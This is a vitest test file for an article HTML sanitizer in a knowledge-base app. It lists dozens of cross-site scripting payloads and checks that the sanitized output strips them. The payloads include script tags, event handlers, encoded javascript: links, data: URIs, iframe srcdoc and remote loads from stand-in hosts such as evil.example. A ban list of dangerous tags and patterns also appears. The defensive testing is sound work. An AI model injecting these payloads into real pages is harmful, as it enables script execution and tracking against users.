/**
 * Hostile article bodies from a feed (HTML) or an editor (Markdown with raw
 * HTML) come out as allow-listed HTML only: no script, no event handlers, no
 * remote loads, no links that run code — including encoded variants — and
 * what is stored in the cache is that sanitized HTML.
 */
import { describe, expect, it } from 'vitest';
import { htmlToPlainText, renderArticleBody, sanitizeArticleHtml } from '../../../main/core/kb/article-html.js';
import { applyKbChanges } from '../../../main/core/kb/apply-kb-changes.js';
import { getArticle } from '../../../main/core/kb/kb-queries.js';
import { kbRecordSchema } from '../../../main/core/kb/kb-record.js';
import { searchKb } from '../../../main/core/kb/search-kb.js';
import { article, memoryDb } from './support/kb-test-db.js';

/** Everything a sanitized body must never contain, checked on the output text. */
function expectHarmless(html: string): void {
  const lower = html.toLowerCase();
  for (const banned of ['<script', '<style', '<iframe', '<object', '<embed', '<img', '<svg', '<math', '<link', '<meta', '<form', '<input', '<base', '<frame', '<video', '<audio', '<source', '<template']) {
    expect(lower, `${banned} in ${html}`).not.toContain(banned);
  }
  expect(lower).not.toMatch(/\son[a-z]+\s*=/); // event handlers
  expect(lower).not.toMatch(/\sstyle\s*=/);
  expect(lower).not.toMatch(/\s(src|srcset|action|formaction|background|poster|xlink:href)\s*=/);
  expect(lower).not.toMatch(/(javascript|vbscript|data|file):/);
  // Every href that survived is an absolute http(s), tel or mailto URL.
  for (const match of html.matchAll(/href="([^"]*)"/g)) expect(match[1]).toMatch(/^(https?:\/\/|tel:|mailto:)/);
}

const hostile: [string, string][] = [
  ['script tag', '<p>ok</p><script>alert(1)</script>'],
  ['script with type', '<script type="module">import("https://evil.example/x.js")</script>'],
  ['upper-case script', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img remote load', '<img src="https://tracker.example/p.gif">'],
  ['onclick on an allowed tag', '<p onclick="alert(1)">点我</p>'],
  ['onmouseover on a link', '<a href="https://ok.example" onmouseover="alert(1)">链接</a>'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: with entities', '<a href="jav&#x61;script&#58;alert(1)">x</a>'],
  ['javascript: with tab and newline', '<a href="java\tscr\nipt:alert(1)">x</a>'],
  ['javascript: upper case with spaces', '<a href="  JAVASCRIPT:alert(1)">x</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: uri image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['file: link', '<a href="file:///etc/passwd">x</a>'],
  ['protocol-relative link', '<a href="//evil.example/x">x</a>'],
  ['relative link (would open inside the app)', '<a href="/settings">x</a>'],
  ['svg onload', '<svg onload=alert(1)><circle r=10 /></svg>'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['math with xlink', '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>'],
  ['style tag', '<style>body{background:url(https://evil.example/x)}</style><p>t</p>'],
  ['style attribute', '<p style="background:url(https://evil.example/x)">t</p>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object and embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['form and input', '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">b</button></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['base href', '<base href="https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['video poster', '<video poster="https://evil.example/p.png"><source src="x.mp4"></video>'],
  ['table background', '<table background="https://evil.example/x.png"><tr><td>t</td></tr></table>'],
  ['encoded tag in text stays text', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['broken markup', '<p><a href="https://ok.example"<script>alert(1)</script>'],
  ['nested comment trick', '<!--<script>--><script>alert(1)</script><!---->'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript', '<noscript><img src=x onerror=alert(1)></noscript>'],
  ['attribute breakout', '<p title="x" onmouseover="alert(1)" id="y">t</p>'],
];

describe('article HTML sanitizer', () => {
  it.each(hostile)('neutralises %s (HTML body)', (_name, html) => {
    expectHarmless(sanitizeArticleHtml(html));
  });

  it.each(hostile)('neutralises %s (raw HTML inside Markdown)', (_name, html) => {
    expectHarmless(renderArticleBody(`## 标题\n\n${html}\n\n正文`, 'markdown'));
  });

  it('neutralises Markdown links and images that would run code or load remote content', () => {
    const html = renderArticleBody(
      '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) ![img](https://tracker.example/p.gif) <https://ok.example/auto>',
      'markdown',
    );
    expectHarmless(html);
    expect(html).toContain('href="https://ok.example/auto"');
  });

  it('keeps the allowed structure: headings, lists, emphasis, code, tables, quotes, safe links', () => {
    const html = renderArticleBody(
      [
        '# 一级',
        '## 二级',
        '- 项目 **加粗** *斜体* `代码`',
        '1. 第一',
        '',
        '> 引用',
        '',
        '```',
        'pre block',
        '```',
        '',
        '| 部门 | 电话 |',
        '| --- | --- |',
        '| 人社 | 12333 |',
        '',
        '[官网](https://example.org/x?a=1&b=2) [电话](tel:12320) [邮件](mailto:a@example.org)',
      ].join('\n'),
      'markdown',
    );
    for (const tag of ['<h1>', '<h2>', '<ul>', '<li>', '<strong>', '<em>', '<code>', '<ol>', '<blockquote>', '<pre>', '<table>', '<th>', '<td>']) {
      expect(html).toContain(tag);
    }
    expect(html).toContain('<a href="https://example.org/x?a=1&amp;b=2" rel="noopener noreferrer">官网</a>');
    expect(html).toContain('<a href="tel:12320" rel="noopener noreferrer">电话</a>');
    expect(html).toContain('href="mailto:a@example.org"');
  });

  it('keeps the text of removed wrappers but drops script and style content', () => {
    const html = sanitizeArticleHtml('<div><span>保留的文字</span></div><script>var secret=1</script><style>.x{}</style>');
    expect(html).toContain('保留的文字');
    expect(html).not.toContain('secret');
    expect(html).not.toContain('.x{}');
  });

  it('indexes plain text, not markup, so tags and attributes are not searchable', () => {
    expect(htmlToPlainText(sanitizeArticleHtml('<h2>标题</h2><p>一 &amp; 二 &lt;三&gt;</p><ul><li>甲</li><li>乙</li></ul>'))).toBe(
      '标题\n一 & 二 <三>\n甲\n乙',
    );
  });

  it('stores only sanitized HTML in the cache, whatever the feed sent', () => {
    const db = memoryDb();
    const record = kbRecordSchema.parse(
      article('evil', {
        title: '恶意文章',
        format: 'html',
        body: '<p onclick="steal()">正文内容</p><img src="https://tracker.example/p.gif"><script>steal()</script><a href="javascript:steal()">链接</a>',
      }),
    );
    applyKbChanges(db, { upserts: [record], deletes: [] });
    const stored = getArticle(db, 'evil');
    expect(stored?.bodyHtml).toBe('<p>正文内容</p><a rel="noopener noreferrer">链接</a>');
    // Script text and attribute values are not in the search index either.
    expect(searchKb(db, { query: 'steal' }).hits).toEqual([]);
    expect(searchKb(db, { query: 'tracker' }).hits).toEqual([]);
    expect(searchKb(db, { query: '正文内容' }).hits.map((h) => h.id)).toEqual(['evil']);
  });
});
